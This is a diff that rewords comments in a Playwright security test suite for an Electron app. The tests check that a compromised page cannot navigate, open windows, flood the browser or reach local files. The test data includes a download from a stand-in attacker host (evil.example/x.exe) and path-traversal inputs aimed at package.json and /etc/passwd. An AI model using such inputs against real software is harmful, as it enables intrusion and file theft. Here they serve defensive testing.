@@ -1,4 +1,4 @@
-/** What a page that was taken over would try: each attempt is made in the live window, and fails. */
+/** Attempts of a compromised page, made in the live window: each must fail. */
 import type {Page} from '@playwright/test'
 
 import {listIsRead} from '../screens.ts'
@@ -18,7 +18,7 @@ test('the page cannot navigate elsewhere or open windows', async ({start}) => {
 	}
 	await click(page, 'https://evil.example/x.exe', {download: 'x.exe'})
 	await stillAlone(desktop, home)
-	// Those that the engine does not stop by itself are said in the log.
+	// The log names those that the engine does not stop by itself.
 	await expect.poll(desktop.said).toContain('navigation to https://evil.example/')
 	expect(desktop.said()).toContain('window for https://evil.example/')
 	const frames = await electron.evaluate(({BrowserWindow}) =>
@@ -44,7 +44,7 @@ test('a link to the web console opens in the browser of the system, once; no oth
 	for (const address of others) await click(page, address, {target: '_blank'})
 	const wanted = 'https://console.eu.amp.cisco.com/computers/x/trajectory2'
 	await click(page, wanted, {target: '_blank'})
-	// A page that was taken over does not fill somebody's browser.
+	// A compromised page must not flood somebody's browser.
 	for (let times = 0; times < 20; times += 1) await click(page, `${wanted}?${times}`, {target: '_blank'})
 	const state = () =>
 		electron.evaluate(({shell, BrowserWindow}) => [Reflect.get(shell, 'opened') as unknown, BrowserWindow.getAllWindows().length])
@@ -102,7 +102,7 @@ test('the page reaches no file and no other server', async ({start}) => {
 		)
 		const inside = ['cordon://app/..%2f..%2fpackage.json', 'cordon://app/../../package.json', 'cordon://app/main.js']
 		const answers = await Promise.all(inside.map(async place => (await fetch(place)).status))
-		// A name that is no file is a screen.
+		// A name without a file gives the page.
 		const screen = await (await fetch('cordon://app/etc/passwd')).text()
 		return {refused, answers, screen: screen.slice(0, 15)}
 	})
